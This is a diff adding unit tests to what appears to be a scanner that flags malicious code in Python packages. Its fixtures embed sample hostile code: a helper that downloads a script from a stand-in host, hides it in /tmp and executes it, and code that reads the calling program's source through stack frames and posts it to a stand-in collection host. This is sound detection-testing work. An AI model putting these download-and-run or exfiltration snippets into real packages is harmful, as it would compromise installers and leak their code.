@@ -288,3 +288,41 @@ describe('code run by threads and obfuscated modules', () => {
     expect(findingsOf(r, 'PY-014')[0]?.severity).toBe('medium');
   });
 });
+
+describe('PY-005: a helper that writes the download and returns its path', () => {
+  const helper = (run: string) =>
+    `import requests, subprocess, sys\ndef fetch():\n    code = requests.get("https://example.invalid/x.py").text\n    tgt = "/tmp/.cache.dat"\n    with open(tgt, "w") as f:\n        f.write(code)\n    return tgt\ndef start():\n    path = fetch()\n    ${run}\n`;
+
+  it('the caller running the returned path is download-and-run', async () => {
+    const r = await scanSdist({
+      'pkg/core.py': helper('subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL)'),
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-005')[0]?.severity).toBe('critical');
+  });
+
+  it('the caller only reading the returned path is not', async () => {
+    const r = await scanSdist({ 'pkg/core.py': helper('print(open(path).read())'), 'setup.py': SETUP });
+    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
+  });
+});
+
+describe("PY-008: the calling program's source read through stack frames", () => {
+  const steal = (sink: string) =>
+    `import inspect, requests\ndef post(url, data):\n    ${sink}\nfor frame in inspect.stack():\n    with open(frame.filename) as f:\n        content = f.read()\n    post("https://collect.example.invalid/r", {"f": frame.filename, "c": content})\n`;
+
+  it('sent through a local wrapper it is a secret flow', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': steal('requests.post(url, json=data)'),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-008')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.message).toMatch(/source code/);
+  });
+
+  it('printed locally (a debugging helper) it is not', async () => {
+    const r = await scanSdist({ 'pkg/__init__.py': steal('print(url, data)'), 'setup.py': SETUP });
+    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
+  });
+});
